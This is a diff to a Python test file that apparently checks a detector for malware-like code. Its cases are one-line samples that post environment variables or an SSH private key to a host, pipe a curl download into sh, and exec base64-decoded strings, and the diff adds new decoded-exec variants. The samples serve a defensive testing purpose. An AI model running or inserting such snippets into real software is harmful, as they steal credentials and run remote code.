@@ -186,6 +186,8 @@ def test_names_are_resolved_as_python_does() -> None:
         ("sends-secrets", "import os, requests\ndef f():\n    requests.post('https://a', json=dict(os.environ))"),
         ("sends-secrets", "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://a', data=key)"),
         ("runs-decoded-code", "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))"),
+        ("runs-decoded-code", "import base64\nF = ''\ndef f(x):\n    global F\n    F = x\n    exec(base64.b64decode(F))"),
+        ("runs-decoded-code", "import base64\nF = ''\nF += 'aW1wb3J0IG9z'\ndef f():\n    exec(base64.b64decode(F))"),
         ("runs-downloaded-code", "import os\ndef f():\n    os.system('curl -s https://a.example/x | sh')"),
     ],
 )  # fmt: skip
@@ -209,6 +211,7 @@ def test_what_looks_like_malware_counts_in_a_function_that_waits_too(
         "import marshal, zlib\ndef cached(data):\n    exec(marshal.loads(zlib.decompress(data)))",
         "import os\ndef install():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
         "import socket, requests\ndef f():\n    requests.post('https://a', json={'host': socket.gethostname()})",
+        "import base64\nFRAMES = ''\ndef driver():\n    exec(base64.b64decode(FRAMES))",
     ],
 )  # fmt: skip
 def test_what_clients_and_loaders_do_when_they_are_called_does_not(
